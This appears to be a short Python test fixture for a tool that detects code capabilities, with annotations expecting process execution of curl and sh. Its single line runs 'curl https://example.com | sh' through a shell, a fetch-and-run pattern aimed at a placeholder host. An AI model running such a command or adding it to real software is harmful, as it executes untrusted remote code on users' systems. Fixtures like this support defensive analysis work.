# must: PROC_EXEC
# must-not: FS_READ_ROOTS, FS_WRITE_ROOTS, NET_ACCESS, ENV_READ, DYNAMIC_CODE_LOAD, CRYPTO_PRIMITIVES
# target: PROC_EXEC curl
# target: PROC_EXEC sh
import subprocess

subprocess.run("curl https://example.com | sh", shell=True)
